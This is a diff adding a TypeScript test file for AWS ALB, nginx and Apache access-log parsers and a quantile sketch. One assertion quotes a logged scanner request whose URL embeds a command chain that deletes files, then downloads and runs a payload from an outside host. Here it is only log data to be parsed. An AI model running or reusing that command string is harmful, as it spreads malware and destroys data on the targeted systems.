@@ -1,0 +1,288 @@
+import { readFileSync } from "node:fs";
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import {
+  parseAlbLogLine,
+  parseClfTime,
+  parseCombinedLogLine,
+  parseRequestLine,
+  QuantileSketch,
+  reachedTarget,
+  splitLogFields,
+  type AlbLogRecord,
+} from "../../src/analysis/access-log.js";
+
+const data = (name: string): URL => new URL(`../../../shared/data/${name}`, import.meta.url);
+const lines = (name: string): string[] =>
+  readFileSync(data(name), "utf8")
+    .split("\n")
+    .filter((l) => l !== "");
+
+function parseAll(name: string): AlbLogRecord[] {
+  return lines(name).map((line, i) => {
+    const r = parseAlbLogLine(line);
+    if (!r.ok) throw new Error(`${name} line ${i + 1}: ${r.error}`);
+    return r.value;
+  });
+}
+
+describe("splitLogFields", () => {
+  it("keeps spaces inside quotes, unescapes, and treats runs of spaces as one", () => {
+    expect(splitLogFields('a "b c"  - "" "x\\"y"')).toEqual({
+      ok: true,
+      value: ["a", "b c", "-", "", 'x"y'],
+    });
+  });
+  it("refuses an unclosed quote and a quote glued to the next field", () => {
+    expect(splitLogFields('a "b c').ok).toBe(false);
+    expect(splitLogFields('a "b"c').ok).toBe(false);
+  });
+});
+
+describe("parseRequestLine", () => {
+  it("splits method, URL (spaces kept) and protocol", () => {
+    expect(parseRequestLine("GET http://h:80/a b HTTP/1.1")).toEqual({
+      method: "GET",
+      url: "http://h:80/a b",
+      protocol: "HTTP/1.1",
+    });
+    expect(parseRequestLine("- http://myalb:80- -")).toEqual({
+      method: null,
+      url: "http://myalb:80-",
+      protocol: null,
+    });
+  });
+});
+
+describe("parseAlbLogLine on every sample in shared/data/alb", () => {
+  it("reads the 7 AWS documentation entries (the 25-field layout)", () => {
+    const records = parseAll("alb/aws-docs-alb-examples.log");
+    expect(records).toHaveLength(7);
+    expect(records.map((r) => r.fieldCount)).toEqual([25, 25, 25, 25, 25, 25, 25]);
+    expect(records.map((r) => r.type)).toEqual([
+      "http",
+      "https",
+      "h2",
+      "ws",
+      "wss",
+      "http",
+      "http",
+    ]);
+    const [http, https, , , , lambdaOk, lambdaFailed] = records;
+    expect(http!.arrivalMs).toBe(Date.parse("2018-07-02T22:22:48.364Z"));
+    expect(http!.timeMs).toBe(Date.parse("2018-07-02T22:23:00.187Z"));
+    expect(http!.target).toBe("10.0.0.1:80");
+    expect(http!.request).toEqual({
+      method: "GET",
+      url: "http://www.example.com:80/",
+      protocol: "HTTP/1.1",
+    });
+    expect(https!.actionsExecuted).toEqual(["authenticate", "forward"]);
+    expect(https!.targetProcessingTime).toBe(0.048);
+    expect(https!.domainName).toBe("www.example.com");
+    expect(https!.connTraceId).toBeNull();
+    // Lambda targets are logged as "-" but did answer.
+    expect(lambdaOk!.target).toBeNull();
+    expect(lambdaOk!.targetProcessingTime).toBe(0.001);
+    expect(reachedTarget(lambdaOk!)).toBe(true);
+    expect(lambdaFailed!.elbStatusCode).toBe(502);
+    expect(lambdaFailed!.targetStatusCode).toBeNull();
+    expect(lambdaFailed!.errorReason).toBe("LambdaInvalidResponse");
+  });
+
+  it("reads Elastic's lines: target lists, classification, -1 timings, a space in the URL", () => {
+    const [first, scanner, noRequest] = parseAll("alb/elastic-integrations-test-alb.log");
+    expect(first!.fieldCount).toBe(29);
+    expect(first!.targetPortList).toBe("10.0.0.1:80");
+    expect(first!.targetStatusCodeList).toBe("200");
+    expect(scanner!.fieldCount).toBe(29);
+    expect(scanner!.request.url).toBe(
+      "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
+    );
+    expect(scanner!.userAgent).toBe("Hello, world");
+    expect(scanner!.requestProcessingTime).toBeNull();
+    expect(scanner!.targetProcessingTime).toBeNull();
+    expect(scanner!.elbStatusCode).toBe(301);
+    expect(scanner!.classification).toBe("Acceptable");
+    expect(scanner!.classificationReason).toBe("SpaceInUri");
+    expect(reachedTarget(scanner!)).toBe(false);
+    expect(noRequest!.fieldCount).toBe(30);
+    expect(noRequest!.connTraceId).toBe("TID_00000000000000000000000000000000");
+    expect(noRequest!.matchedRulePriority).toBeNull();
+    expect(noRequest!.request.method).toBeNull();
+  });
+
+  it("reads the nawab312 lines: two 400s without a request line, one forward", () => {
+    const records = parseAll("alb/nawab312-real-alb.log");
+    expect(records).toHaveLength(3);
+    expect(records.filter((r) => r.request.method === null)).toHaveLength(2);
+    expect(records.map((r) => r.elbStatusCode)).toEqual([400, 400, 304]);
+    expect(records.map(reachedTarget)).toEqual([false, false, true]);
+    expect(records[2]!.userAgent).toBe(
+      "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0",
+    );
+  });
+
+  it("reads the dmastrop stress test: 23 requests over 1.7 s, each to a different target", () => {
+    const records = parseAll("alb/dmastrop-tomcat-alb-50-targets.log");
+    expect(records).toHaveLength(23);
+    expect(records.every((r) => r.fieldCount === 30 && r.connTraceId!.startsWith("TID_"))).toBe(
+      true,
+    );
+    expect(new Set(records.map((r) => r.target)).size).toBe(23);
+    const arrivals = records.map((r) => r.arrivalMs);
+    expect(new Date(Math.min(...arrivals)).toISOString()).toBe("2025-04-08T00:42:18.715Z");
+    expect(new Date(Math.max(...arrivals)).toISOString()).toBe("2025-04-08T00:42:20.443Z");
+    expect(Math.max(...arrivals) - Math.min(...arrivals)).toBe(1728);
+  });
+
+  it("ignores fields it does not know and falls back to time minus processing for old layouts", () => {
+    const line = lines("alb/aws-docs-alb-examples.log")[1]!;
+    const newer = parseAlbLogLine(
+      `${line} "a:1" "200" "-" "-" TID_x "host" "/uri" "rewritten" extra`,
+    );
+    expect(newer.ok && newer.value.connTraceId).toBe("TID_x");
+    // The 2016 layout ends at trace_id (18 fields): no request_creation_time.
+    const old = parseAlbLogLine(
+      'http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354"',
+    );
+    expect(old.ok && old.value.fieldCount).toBe(18);
+    expect(old.ok && old.value.requestCreationTimeMs).toBeNull();
+    expect(old.ok && old.value.arrivalMs).toBe(Date.parse("2018-07-02T22:23:00.186Z"));
+  });
+
+  it("says why a line is bad", () => {
+    expect(parseAlbLogLine("http 2018-07-02T22:23:00Z app/x")).toMatchObject({ ok: false });
+    const line = lines("alb/aws-docs-alb-examples.log")[0]!;
+    expect(parseAlbLogLine(line.replace("0.001", "fast"))).toEqual({
+      ok: false,
+      error: '"fast" is not a processing time',
+    });
+    expect(parseAlbLogLine(line.replace("2018-07-02T22:23:00.186641Z", "yesterday")).ok).toBe(
+      false,
+    );
+  });
+});
+
+describe("parseCombinedLogLine", () => {
+  it("reads all 14,575 nginx lines", () => {
+    const all = lines("nginx/nginx_logs.elastic-examples.first14575.log");
+    expect(all).toHaveLength(14575);
+    const records = all.map((l) => parseCombinedLogLine(l));
+    expect(records.every((r) => r.ok)).toBe(true);
+    const first = records[0]!;
+    expect(first.ok && first.value).toMatchObject({
+      remoteAddr: "93.180.71.3",
+      timeMs: Date.parse("2015-05-17T08:05:32Z"),
+      status: 304,
+      bodyBytesSent: 0,
+      referer: null,
+      userAgent: "Debian APT-HTTP/1.3 (0.8.16~exp12ubuntu10.21)",
+    });
+  });
+
+  it("reads the Apache log except line 8899, whose user agent quote is not closed", () => {
+    const all = lines("nginx/apache_logs.elastic-examples.combined.log");
+    expect(all).toHaveLength(10000);
+    const bad = all.flatMap((l, i) => {
+      const r = parseCombinedLogLine(l);
+      return r.ok ? [] : [{ line: i + 1, error: r.error }];
+    });
+    expect(bad).toEqual([{ line: 8899, error: "has a quoted field that is not closed" }]);
+    const statuses = all
+      .map((l) => parseCombinedLogLine(l))
+      .flatMap((r) => (r.ok ? [r.value.status] : []));
+    expect(statuses.filter((s) => s === 500)).toHaveLength(3);
+  });
+
+  it("reads the common format, FireLens JSON records and escaped quotes", () => {
+    expect(
+      parseCombinedLogLine('1.2.3.4 - bob [01/Jan/2024:00:00:00 -0130] "GET / HTTP/1.0" 503 -'),
+    ).toMatchObject({
+      ok: true,
+      value: {
+        remoteUser: "bob",
+        status: 503,
+        bodyBytesSent: null,
+        timeMs: Date.parse("2024-01-01T01:30:00Z"),
+      },
+    });
+    const line =
+      '10.0.0.1 - - [17/May/2015:10:05:03 +0000] "GET /a\\"b HTTP/1.1" 200 12 "-" "x \\"y\\""';
+    const fireLens = JSON.stringify({ container_id: "abc", source: "stdout", log: `${line}\n` });
+    const r = parseCombinedLogLine(fireLens);
+    expect(r.ok && r.value.request.url).toBe('/a"b');
+    expect(r.ok && r.value.userAgent).toBe('x "y"');
+    expect(parseCombinedLogLine('{"message":"no log field"}').ok).toBe(false);
+  });
+
+  it("parses $time_local and refuses impossible dates", () => {
+    expect(parseClfTime("17/May/2015:10:05:03 +0000")).toBe(Date.parse("2015-05-17T10:05:03Z"));
+    expect(parseClfTime("17/May/2015:10:05:03 +0200")).toBe(Date.parse("2015-05-17T08:05:03Z"));
+    expect(parseClfTime("31/Feb/2015:10:05:03 +0000")).toBeNull();
+    expect(parseClfTime("17/Foo/2015:10:05:03 +0000")).toBeNull();
+  });
+});
+
+describe("QuantileSketch", () => {
+  it("matches numpy.quantile(range(1, 101), q, method='lower') within 1 %", () => {
+    // numpy: q = 0.95 → 95, q = 0.5 → 50, q = 1 → 100, q = 0 → 1 (the sketch reads the
+    // order statistic at rank floor(q·(n − 1)), numpy's "lower" method).
+    const s = new QuantileSketch();
+    for (let x = 1; x <= 100; x++) s.add(x);
+    expect(s.count).toBe(100);
+    const rel = (q: number, want: number): number => Math.abs(s.quantile(q) - want) / want;
+    expect(rel(0.95, 95)).toBeLessThan(0.01);
+    expect(rel(0.5, 50)).toBeLessThan(0.01);
+    expect(rel(1, 100)).toBeLessThan(0.01);
+    expect(rel(0, 1)).toBeLessThan(0.01);
+  });
+
+  it("stays within α of the true order statistic on random latencies", () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.double({ min: 0, max: 60, noNaN: true }), { minLength: 1, maxLength: 300 }),
+        fc.double({ min: 0, max: 1, noNaN: true }),
+        (values, q) => {
+          const s = new QuantileSketch(0.01);
+          values.forEach((v) => s.add(v));
+          const sorted = [...values].sort((a, b) => a - b);
+          const exact = sorted[Math.floor(q * (sorted.length - 1))]!;
+          const got = s.quantile(q);
+          return exact === 0 ? got === 0 : Math.abs(got - exact) <= 0.0100001 * exact;
+        },
+      ),
+    );
+  });
+
+  it("is NaN when empty and ignores negative values", () => {
+    const s = new QuantileSketch();
+    s.add(-1);
+    expect(s.quantile(0.95)).toBeNaN();
+    expect(() => new QuantileSketch(0)).toThrow("`QuantileSketch` requires a relative accuracy");
+  });
+});
+
+describe("the parsers never throw", () => {
+  it("returns a Result for any text", () => {
+    const albish = fc
+      .array(
+        fc.oneof(
+          fc.string(),
+          fc.constantFrom("-", "-1", '"', "http", "2018-07-02T22:23:00Z", "200", "0.001"),
+        ),
+        {
+          maxLength: 35,
+        },
+      )
+      .map((parts) => parts.join(" "));
+    fc.assert(
+      fc.property(fc.oneof(fc.string(), albish), (text) => {
+        const a = parseAlbLogLine(text);
+        const b = parseCombinedLogLine(text);
+        return typeof a.ok === "boolean" && typeof b.ok === "boolean";
+      }),
+      { numRuns: 2000 },
+    );
+  });
+});
